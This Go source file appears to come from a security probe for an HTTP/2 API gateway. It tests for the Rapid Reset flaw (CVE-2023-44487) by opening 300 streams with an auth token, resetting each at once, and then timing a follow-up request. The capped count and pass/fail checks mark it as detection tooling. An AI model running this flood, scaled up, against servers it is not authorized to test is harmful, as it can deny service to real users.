package probe

import (
	"bytes"
	"crypto/tls"
	"io"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// resetStreams is how many streams are opened and reset: enough to be noticed, and too few to
// harm.
const resetStreams = 300

// resets opens streams and resets them at once (CVE-2023-44487), and then asks for something
// on another connection.
func resets(a *attempt) {
	if a.target.base.Scheme != "https" {
		a.note("no TLS, so no HTTP/2")
		return
	}
	conn, err := a.target.dial(a.ctx, "h2")
	if err != nil {
		a.note("HTTP/2 is not offered")
		return
	}
	defer conn.Close()
	if c, ok := conn.(*tls.Conn); !ok || c.ConnectionState().NegotiatedProtocol != "h2" {
		a.note("HTTP/2 is not offered")
		return
	}
	sent := a.flood(conn)
	begun := time.Now()
	got := a.get("/metadata")
	switch took := time.Since(begun); {
	case got.err != nil:
		a.fail("after %d streams were reset, the gateway answers nobody", sent)
	case took > a.o.Timeout/2:
		a.fail("after %d streams were reset, another client waited %v", sent, took.Round(time.Millisecond))
	default:
		a.note("%d streams were reset", sent)
	}
}

// flood opens and resets streams until the gateway hangs up or there were enough.
func (a *attempt) flood(conn io.ReadWriter) int {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return 0
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // it ends with the connection
	framer := http2.NewFramer(conn, nil)
	if framer.WriteSettings() != nil {
		return 0
	}
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for n := range resetStreams {
		block.Reset()
		for _, f := range []hpack.HeaderField{
			{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: a.target.base.Host}, {Name: ":path", Value: a.target.base.Path + "/Appointment?_count=1"},
			{Name: "authorization", Value: "Bearer " + string(a.o.Token), Sensitive: true},
		} {
			if err := enc.WriteField(f); err != nil {
				return n
			}
		}
		id := uint32(2*n + 1)
		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}) != nil || framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return n
		}
	}
	return resetStreams
}
